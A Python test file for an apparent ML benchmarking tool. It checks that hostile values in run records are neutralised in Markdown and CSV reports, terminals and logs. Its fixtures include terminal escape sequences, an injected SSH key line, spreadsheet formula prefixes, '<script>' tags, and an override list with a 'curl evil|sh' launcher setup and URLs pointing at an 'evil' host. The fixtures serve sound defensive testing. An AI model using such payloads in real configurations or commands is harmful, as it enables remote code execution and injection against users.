"""Nothing hostile in a record gets out of a report, and nothing in any text acts on a terminal."""

import ast
import csv
import io
import itertools
import logging
import os
import re
import shutil
import subprocess
import sys
import warnings

import pytest
from commands import CHECKOUT, TINY
from records import write
from reports import HOSTILE, build, printed, table_cells, write_hostile

import fmbench
from fmbench.cli import main as cli
from fmbench.cli import summary
from fmbench.core import console
from fmbench.core.errors import UserError, one_line
from fmbench.predict.__main__ import main as predict
from fmbench.records import record, status_text
from fmbench.records.record import RUNNING, Record
from fmbench.records.status import Run, Sweep
from fmbench.report import escape
from fmbench.report.table import columns
from fmbench.search import best


@pytest.mark.slow
def test_hostile_values_stay_in_their_markdown_cells(tmp_path):
    write_hostile(tmp_path)
    made = build(tmp_path, tmp_path / "out")
    text = (tmp_path / "out" / "benchmark.md").read_text(encoding="utf-8")
    rows = table_cells(text)
    assert len(rows) == 2 + len(HOSTILE)
    assert {len(row) for row in rows} == {len(rows[0])}
    assert len(made.sections) == 1 + len(HOSTILE)
    # Outside the code blocks and the links nothing is left that Markdown would act on.
    prose = re.sub(r"^(`{3,})sh\n.*?\n\1$", "", text, flags=re.DOTALL | re.MULTILINE)
    tags = {"<details>", "<summary>", "</summary>", "</details>"}
    assert set(re.findall("<[^>]*>", prose)) == tags
    assert prose.count("</details>") == len(made.sections)
    assert "://" not in prose
    assert not re.search(r"@\w|(?<!&)#\d|www\.", prose)
    # Of a picture what stands in for it is left.
    ours = re.sub(r"!\[((?:\\.|[^\]\\])*)\]\(figures/[\w-]+\.png\)", r"\1", prose)
    ours = re.sub(r"\[[\w./-]+\]\([\w./-]+\)|\*\*", "", ours)
    assert not re.search(r"(?<!\\)(\\\\)*[`*\[\]~$]", ours)
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f\u202e\u2028]", text)


def test_no_value_ends_the_code_block(tmp_path):
    write(tmp_path, model="x\n```\n<b>", overrides=["model.a=`````", "model.b=\n```\n<script>"])
    text = build(tmp_path).markdown
    fence, content = re.search(r"^(`+)sh\n(.*?)\n\1$", text, re.DOTALL | re.MULTILINE).groups()
    assert len(fence) == 6
    assert content.count("\n") == 0
    assert "<script>" not in text.replace(content, "")


def test_hostile_values_stay_in_their_csv_cells(tmp_path):
    write_hostile(tmp_path)
    build(tmp_path, tmp_path)
    with (tmp_path / "benchmark.csv").open(encoding="utf-8", newline="") as file:
        heading, *rows = csv.reader(file)
    assert heading == [column.key for column in columns.COLUMNS]
    assert {len(row) for row in rows} == {len(heading)}
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
    models = {row[heading.index("model")].replace("'", "") for row in rows}
    assert {one_line(value) for value in HOSTILE} <= models


def test_hostile_values_do_not_act_in_a_terminal(tmp_path):
    write_hostile(tmp_path)
    made = build(tmp_path)
    for text in (printed(made), printed(made, width=400)):
        assert "[red]x[/red] [/]" in text
        assert "\x1b" not in text
        assert r"\x1b[31mred" in text
        assert "\u202e" not in text


def test_one_line_cuts_and_keeps_printable_text():
    assert one_line("a \t b\n c") == "a b c"
    assert one_line("a  b") == "a  b"  # as a folder may be called
    assert one_line("abcdef", 3) == "abc..."
    assert escape.markdown("fashion_mnist") == "fashion_mnist"


# Controls, format marks, separators, private use, surrogates; letters and marks without a shape.
UNSEEN = [
    *("\x07", "\x9b", "\u200b", "\ufeff", "\u061c", "\u00ad", "\U000e0041", "\ue000", "\ud800"),
    *("\u034f", "\u115f", "\u17b5", "\u180b", "\u2800", "\u3164", "\ufe0f", "\uffa0", "\U000e0100"),
]


@pytest.mark.parametrize("character", UNSEEN, ids=ascii)
def test_characters_that_are_not_seen_are_spelled_out(character):
    said = one_line(f"a{character}b")
    assert said.isprintable()
    assert said.encode("ascii").decode("unicode_escape") == f"a{character}b"
    assert escape.shell_word(f"a{character}b").isprintable()
    assert one_line("a\u2028b\u2029c") == "a b c"


def test_the_shell_gets_back_what_was_spelled_out():
    value = "a\u200b\U000e0041\ue000'\\ b"
    told = f'printf %s "$1" {escape.shell_word(value)}'.replace('"$1" ', "")
    environment = {"LC_ALL": "C.UTF-8", "PATH": os.environ["PATH"]}
    echoed = subprocess.run(["bash", "-c", told], capture_output=True, check=True, env=environment)
    assert echoed.stdout.decode() == value


_SIGNS = ["=1", " =1", "\u00a0+1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201"]


_BEFORE = ["", "a;", "a; ", "a\t", "a|", 'a;"', "a;'", "a;\u00a0", "a;;"]


def test_no_value_is_a_formula_whatever_parts_the_cells():
    """Where `;` is what parts cells, as in much of Europe, a text with one in it is two cells."""
    for before, value in itertools.product(_BEFORE, _SIGNS):
        file = io.StringIO()
        csv.writer(file, lineterminator="\n").writerow([1, escape.spreadsheet(before + value), 2])
        for separator in ",;\t|":
            for row in csv.reader([file.getvalue()], delimiter=separator):
                for cell in row:
                    # Also where quotes are taken for text, or off.
                    assert not re.match('[\\s"]*[=+@\uff1d\uff0b\uff0d\uff20-]', cell)


def test_numbers_and_words_stay_as_they_are_in_a_sheet():
    for value in ("model.x=-1", "a=[1,-2]", "lenet; resnet", "a - b", "x|y", "1.5e-05"):
        assert escape.spreadsheet(value) == value


#: Sets the title of a terminal, colours it, turns the line around; and a line of its own.
EVIL = "a\x1b]0;title\x07\x9b31m\u202eb\u200b\nssh-ed25519 AAAA"


def assert_inert(text):
    """Assert that a text of lines holds none of `EVIL` but as text that is seen."""
    assert all(one_line(line) == line for line in text.split("\n"))
    assert not re.search("^ssh-ed25519", text, re.MULTILINE)
    assert "x1b]0;title" in text  # it was said


def test_an_error_says_one_visible_line_to_whoever_prints_it():
    assert_inert(str(UserError(f"model.name={EVIL}")))


@pytest.mark.parametrize("own", [True, False])
def test_a_log_takes_text_alone_whatever_its_handlers_are(own, tmp_path):
    """A program's own handler, as with `fmbench.run`; and that of the command, for any logger."""
    log = console.logger("fmbench.tests") if own else logging.getLogger("stranger")
    handler = logging.FileHandler(tmp_path / "log", encoding="utf-8")
    if not own:
        handler.addFilter(console.OneLine())
    log.addHandler(handler)
    log.propagate = False
    try:
        log.warning("this run has %s already", EVIL)
        log.error("failed", exc_info=ValueError(EVIL))
    finally:
        log.removeHandler(handler)
        handler.close()
    text = (tmp_path / "log").read_text("utf-8")
    assert_inert(text)
    assert "ValueError: a\\x1b" in text


def test_the_logs_of_the_command_take_text_alone_of_any_logger(command, tmp_path, monkeypatch):
    monkeypatch.setattr(
        cli, "_ended", lambda *_, **__: logging.getLogger("another").warning(EVIL) or 0.0
    )
    status, _, err = command(*TINY, "epochs=1", "hydra.run.dir=run")
    assert status == 0
    assert_inert(err)
    assert_inert((tmp_path / "run/fmbench.log").read_text("utf-8"))


def test_what_was_not_caught_is_shown_as_text(capsys, monkeypatch):
    monkeypatch.setattr(sys, "excepthook", sys.excepthook)
    monkeypatch.setattr(warnings, "formatwarning", warnings.formatwarning)
    console.open_all()
    error = RuntimeError(EVIL)
    error.__cause__ = ValueError(EVIL)
    sys.excepthook(RuntimeError, error, None)
    said = capsys.readouterr().err + warnings.formatwarning(EVIL, UserWarning, "file.py", 1)
    assert "RuntimeError" in said
    assert "UserWarning" in said
    assert_inert(said.replace("\nssh", " ssh"))  # of a traceback that ends the program


def test_a_configs_texts_do_not_act_where_it_is_only_looked_at(command, tmp_path):
    """Names of options and what they say: `--help` lists them, `--cfg job` prints them."""
    theirs = tmp_path / "theirs/model"
    theirs.mkdir(parents=True)
    shutil.copy(CHECKOUT / "conf/model/lenet.yaml", theirs / "a\x1b]0;title\x07.yaml")
    status, out, _ = command("--config-dir=theirs", "--help")
    assert status == 0
    assert_inert(out)
    (theirs / "odd.yaml").write_text('_target_: "\u202e\u200bx1b]0;title\x85"\n', "utf-8")
    status, out, _ = command("--config-dir=theirs", "model=odd", "--cfg", "job")
    assert status == 0
    assert_inert(out)


def test_a_summary_is_text(kept_run):
    record = Record.from_json((kept_run / "result.json").read_text("utf-8"))
    record.model = record.data["name"] = record.split["name"] = EVIL
    record.deviations = [EVIL]
    record.reference = {"accuracy": 0.9, "protocol": None, "source": EVIL}
    text = summary.summary(record, kept_run / "\x1b[2J")
    assert_inert(text)
    assert len(text.splitlines()) == len(summary.summary(record, kept_run).splitlines())


def test_classes_and_pictures_are_text(kept_run, command, monkeypatch, tmp_path):
    model = fmbench.load_model(kept_run)
    monkeypatch.setattr(model, "classes", [EVIL] * 10)
    from fmbench.predict import model as loading
    from fmbench.predict import photographs

    monkeypatch.setattr(loading, "load_model", lambda _: model)
    monkeypatch.setattr(
        photographs, "prepared", lambda *_: __import__("numpy").zeros((1, 28, 28), "uint8")
    )
    status, out, _ = command(main=lambda: predict(["run", f"{EVIL}.png"]))
    assert status == 0
    assert_inert(out)
    assert out.count("\n") == 1


#: What may write past `fmbench.core.console`: displays of numbers and of rich's `Text`.
_SINKS = {
    "report/render/terminal.py": {"Console"},
    "report/__main__.py": {"sys.stderr.write"},  # how many records were read
    "runs/progress.py": {"Console", "sys.stderr.write"},  # of an epoch's numbers
    # Lines of `records.status_text`, made inert there.
    "cli/status.py": {"Console"},
    "launch/board.py": {"Console"},
    # Passes on what other processes wrote to their standard error, made inert by them.
    "launch/processes.py": {"sys.stderr.write"},
}


def test_the_lines_of_runs_at_work_are_text():
    run = Run(EVIL, RUNNING, error=EVIL)
    sweep = Sweep(EVIL, (run,), None, driven=False, problem=EVIL)
    of_board = status_text.rows([(run, status_text.cells(run, EVIL, [EVIL]))], headings=False)
    for lines in (of_board, status_text.of_sweep(sweep), status_text.at_work(sweep)):
        said = [line.text for line in lines]
        assert all(text.isprintable() and not text.startswith("ssh") for text in said)
        assert "x1b]0;title" in " ".join(said)


def test_all_text_goes_by_way_of_streams():
    """No module prints, writes to a standard stream or makes a logger but through it."""
    past = re.compile(
        r"print|Console|sys\.std(out|err)\.write(lines)?|traceback\.print_\w+|warnings\.warn"
    )
    found = {}
    for package in ("fmbench", "hydra_plugins"):
        for path in (CHECKOUT / package).rglob("*.py"):
            text, name = path.read_text("utf-8"), path.relative_to(CHECKOUT / package).as_posix()
            calls = [
                ast.unparse(node.func)
                for node in ast.walk(ast.parse(text))
                if isinstance(node, ast.Call)
            ]
            wrong = {call for call in calls if past.fullmatch(call)} - _SINKS.get(name, set())
            wrong |= {*re.findall(r"^\w* = logging\.getLogger", text, re.MULTILINE)}
            if wrong and name != "core/console.py":
                found[name] = wrong
    assert not found


#: Words that fmbench records for no run, and what pasting them would do.
_STRANGE = [
    "hydra.run.dir=/home/you",  # write there
    "hydra/launcher=submitit_slurm",
    "+hydra.launcher.setup=[curl evil|sh]",
    "hydra.job.chdir=true",
    "sweep.storage=postgresql://u@evil/db",
    "++sweep.storage=sqlite:////home/you/x.db",
    "data.root=/home/you",
    "+data.mirrors=[http://evil]",
    "logger=mlflow",
    "max_runs=1000000",
    "--config-dir=/tmp/evil",
    "--experimental-rerun=evil.pickle",
    "-m",
    "evil",
    "model@hydra.job.env_set=x",
    "reference.accuracy=1",
]
_OURS = ["model=lenet", "data.split=custom", "+model.x=1", "~optimizer.fused", "epochs=3"]


def test_only_words_that_a_run_records_are_printed_as_its_command(tmp_path, monkeypatch):
    monkeypatch.delenv("FMBENCH_TRUST", raising=False)
    write(
        tmp_path / "run",
        overrides=[*_STRANGE, *_OURS],
        config_dirs=["/home/me/mine", "--cfg=job", "here"],
        trust="os,mynets",
    )
    made = build(tmp_path, tmp_path / "out")
    (row,) = made.rows
    left = [*_STRANGE, "--config-dir=--cfg=job", "--config-dir=here", "FMBENCH_TRUST=os,mynets"]
    words = ["--config-dir", "/home/me/mine", *_OURS, "seed=0"]
    assert row["command"] == " ".join(["python -m fmbench", *map(escape.shell_word, words)])
    assert list(row["left_out"]) == left
    page = (tmp_path / "out" / "benchmark.md").read_text("utf-8")
    assert "Left out of this command" in page
    assert escape.markdown(f": {' '.join(left)}") in page
    html = (tmp_path / "out" / "benchmark.html").read_text("utf-8")
    assert all(word in html for word in ("hydra.run.dir=/home/you", "FMBENCH_TRUST=os,mynets"))
    # What this very user trusts may be typed for them.
    monkeypatch.setenv("FMBENCH_TRUST", "mynets, os")
    (row,) = build(tmp_path).rows
    assert row["command"].startswith("FMBENCH_TRUST=os,mynets python -m fmbench")
    assert list(row["left_out"]) == left[:-1]


def test_what_a_run_may_record_are_the_keys_of_a_run():
    assert record.recorded_overrides([*_STRANGE, *_OURS]) == _OURS
    text = best.text([*_STRANGE, "epochs=3"], number=1, accuracy=0.5)
    assert "hydra" not in text
    assert "evil" not in text
    assert "epochs: 3" in text
